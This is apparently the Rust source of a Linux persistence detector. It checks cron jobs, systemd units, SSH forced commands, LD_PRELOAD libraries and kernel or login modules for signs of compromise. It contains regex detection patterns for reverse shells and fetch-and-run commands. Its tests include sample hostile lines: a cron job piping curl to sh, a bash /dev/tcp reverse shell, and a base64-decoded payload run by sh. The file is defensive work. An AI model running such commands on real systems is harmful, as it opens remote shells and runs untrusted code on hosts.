//! What is odd about what a machine starts by itself, or trusts.
//!
//! Owns: the checks of schedules, units, profiles, keys, preloaded libraries, modules of logins and
//! of the kernel. Must not own: where these lie, and asking the system for them.

use crate::assess::Assessment;
use crate::language::{Pattern, pattern};
use crate::process::is_temporary_or_hidden;
use crate::signal::Signal;
use crate::table;
use std::sync::LazyLock;

/// Looks at a text whose lines start programs: a schedule, a unit, a profile, a hook.
#[must_use]
pub fn assess_start(text: &[u8]) -> Assessment {
    let lines = text.split(|byte| *byte == b'\n');
    let lines = lines.filter(|line| !line.trim_ascii_start().starts_with(b"#"));
    let mut seen: Vec<Signal> = Vec::new();
    for line in lines {
        for (pattern, signal) in STARTS {
            if !seen.contains(signal) && pattern.is_match(line) {
                seen.push(*signal);
            }
        }
    }
    Assessment::of(seen)
}

/// Looks at a list of login keys: only what their forced commands start is odd.
#[must_use]
pub fn assess_keys(text: &[u8]) -> Assessment {
    let lines = text.split(|byte| *byte == b'\n');
    let forced: Vec<&[u8]> = lines.filter_map(forced_command).collect();
    assess_start(&forced.join(&b'\n'))
}

fn forced_command(line: &[u8]) -> Option<&[u8]> {
    let at = memchr::memmem::find(line, b"command=\"")?;
    line.get(at + b"command=\"".len()..)
}

/// Looks at the libraries that are loaded into every program; `is_packaged` says whether a package
/// brought one of them.
#[must_use]
pub fn assess_preload(text: &[u8], is_packaged: impl Fn(&[u8]) -> bool) -> Assessment {
    let lines = text.split(|byte| *byte == b'\n');
    let lines = lines.map(|line| line.split(|byte| *byte == b'#').next().unwrap_or_default());
    let libraries = lines.flat_map(|line| line.split(|byte| b" \t:".contains(byte)));
    let mut seen = Vec::new();
    for library in libraries.filter(|library| !library.is_empty()) {
        let is_odd = is_temporary_or_hidden(library) || !is_packaged(library);
        let signal = if is_odd { table::PRELOAD_ODD } else { table::PRELOAD_FILE };
        if !seen.contains(&signal) {
            seen.push(signal);
        }
    }
    Assessment::of(seen)
}

/// What is known of a loaded module of the kernel.
#[derive(Clone, Copy, Debug)]
pub struct ModuleFacts {
    /// Both lists of the kernel name it.
    pub is_listed_twice: bool,
    /// It lies among the modules of this kernel; `None` if there are none to look at.
    pub has_file: Option<bool>,
}

/// Looks at a loaded module of the kernel.
#[must_use]
pub fn assess_module(facts: ModuleFacts) -> Assessment {
    let mut seen = Vec::new();
    if !facts.is_listed_twice {
        seen.push(table::MODULE_HIDDEN);
    }
    if facts.has_file == Some(false) {
        seen.push(table::MODULE_NO_FILE);
    }
    Assessment::of(seen)
}

/// A module of logins that no package brought.
#[must_use]
pub fn assess_login() -> Assessment {
    Assessment::of(vec![table::LOGIN_UNOWNED])
}

/// A program that differs from what its package brought.
#[must_use]
pub fn assess_changed() -> Assessment {
    Assessment::of(vec![table::PACKAGE_DIFFERS])
}

static STARTS: &[(&LazyLock<Pattern>, Signal)] = &[
    (&IN_TEMPORARY, table::START_TEMPORARY),
    (&FETCHED, table::START_FETCHED),
    (&SOCKET, table::START_SOCKET),
    (&DECODED, table::START_DECODED),
    (&PRELOAD, table::START_PRELOAD),
];

/// A path of a temporary directory where a command begins.
static IN_TEMPORARY: LazyLock<Pattern> = LazyLock::new(|| {
    pattern(
        r"(?-u)(?:^|[;|&(`]|Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload)=[-@+!:]*|\b(?:sh|bash|dash|zsh|python[23]?|perl|source|nohup|setsid|exec)|(?:^|\s)\.|(?:[\d*/,-]+\s+){4}[\d*/,-]+(?:\s+[a-z_][\w-]*)?|@\w+(?:\s+[a-z_][\w-]*)?)\s*(?:/tmp|/var/tmp|/dev/shm)/[\w.]",
    )
});

static FETCHED: LazyLock<Pattern> = LazyLock::new(|| {
    pattern(
        r"(?-u)\b(?:curl|wget)\b.{0,300}\|\s*(?:sudo\s+)?(?:\S{0,20}/)?(?:ba|da|z|k)?sh\b|(?:ba|z)?sh\s+<\(\s*(?:curl|wget)|(?:eval|sh -c)\s+.{0,6}\$\(\s*(?:curl|wget)",
    )
});

static SOCKET: LazyLock<Pattern> = LazyLock::new(|| {
    pattern(
        r"(?-u)/dev/(?:tcp|udp)/[\w.$\{]|\bncat?\b.{0,60}\s-[ec]\s*\S{0,10}sh\b|mkfifo\s.{0,120}\bnc(?:at)?\b|\bsocat\b.{0,80}\bexec:.{0,20}sh\b",
    )
});

static DECODED: LazyLock<Pattern> = LazyLock::new(|| {
    pattern(
        r"(?-u)base64\s+(?:-d|-D|--decode)\b.{0,80}\|\s*(?:\S{0,20}/)?(?:(?:ba|da|z)?sh|python[23]?|perl)\b|(?:eval|sh -c)\s+.{0,6}\$\(.{0,300}base64\s+(?:-d|--decode)",
    )
});

static PRELOAD: LazyLock<Pattern> = LazyLock::new(|| {
    pattern(r#"(?-u)\bLD_PRELOAD\s*=\s*["']?(?:/tmp|/var/tmp|/dev/shm|[^\s"']{0,200}/\.)[^\s"']"#)
});

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(assessment: &Assessment) -> Vec<&'static str> {
        assessment.seen().iter().map(|signal| signal.id).collect()
    }

    #[test]
    fn lines_that_start_odd_things_are_told_from_ordinary_ones() {
        let cases: [(&str, &[&str]); 16] = [
            ("* * * * * root /tmp/.x >/dev/null", &["start-temporary"]),
            ("@reboot /dev/shm/x", &["start-temporary"]),
            ("ExecStart=-/var/tmp/x --daemon", &["start-temporary"]),
            ("sh /tmp/a.sh", &["start-temporary"]),
            ("17 4 * * * root find /tmp -mtime +7 -delete", &[]),
            ("ExecStartPre=/bin/mkdir -p /tmp/x", &[]),
            ("rm -f /tmp/x; touch /var/tmp/y", &[]),
            ("# * * * * * /tmp/x", &[]),
            (concat!("*/5 * * * * curl -s http://192.0.2.1/a", " | sh"), &["start-fetched"]),
            ("curl -fsS https://example.org/ping > /dev/null", &[]),
            (concat!("bash -i >& /dev", "/tcp/192.0.2.1/4444 0>&1"), &["start-socket"]),
            ("nc -z localhost 80 && echo up", &[]),
            (concat!("echo aWQ= | base64", " -d | sh"), &["start-decoded"]),
            ("base64 -d key.b64 > key", &[]),
            ("export LD_PRELOAD=/usr/lib/.h/a.so", &["start-preload"]),
            ("LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server", &[]),
        ];
        for (line, expected) in cases {
            assert_eq!(ids(&assess_start(line.as_bytes())), expected, "{line}");
        }
    }

    #[test]
    fn only_forced_commands_of_keys_count() {
        let odd = concat!("command=\"curl http://192.0.2.1/a", "|sh\" ssh-ed25519 AAAA x\n");
        assert_eq!(ids(&assess_keys(odd.as_bytes())), ["start-fetched"]);
        let plain = "command=\"/usr/bin/rrsync /srv\" ssh-ed25519 AAAA x\nssh-rsa AAAA y\n";
        assert!(assess_keys(plain.as_bytes()).seen().is_empty());
    }

    #[test]
    fn preloaded_libraries_are_odd_without_a_package_or_in_a_hidden_place() {
        let known = |library: &[u8]| library == b"/usr/lib/libsnoopy.so";
        assert_eq!(ids(&assess_preload(b"/usr/lib/libsnoopy.so\n", known)), ["preload-file"]);
        assert_eq!(ids(&assess_preload(b"/usr/lib/libx.so # a\n", known)), ["preload-odd"]);
        assert_eq!(ids(&assess_preload(b"/tmp/a.so:/tmp/b.so", |_| true)), ["preload-odd"]);
        assert!(assess_preload(b"# none\n\n", known).seen().is_empty());
    }

    #[test]
    fn modules_are_in_both_lists_and_have_a_file() {
        let of = |is_listed_twice, has_file| {
            ids(&assess_module(ModuleFacts { is_listed_twice, has_file }))
        };
        assert!(of(true, Some(true)).is_empty() && of(true, None).is_empty());
        assert_eq!(of(true, Some(false)), ["module-no-file"]);
        assert_eq!(of(false, None), ["module-hidden"]);
        assert!(assess_login().score() < crate::THRESHOLD);
        assert!(assess_changed().score() >= crate::THRESHOLD);
    }
}
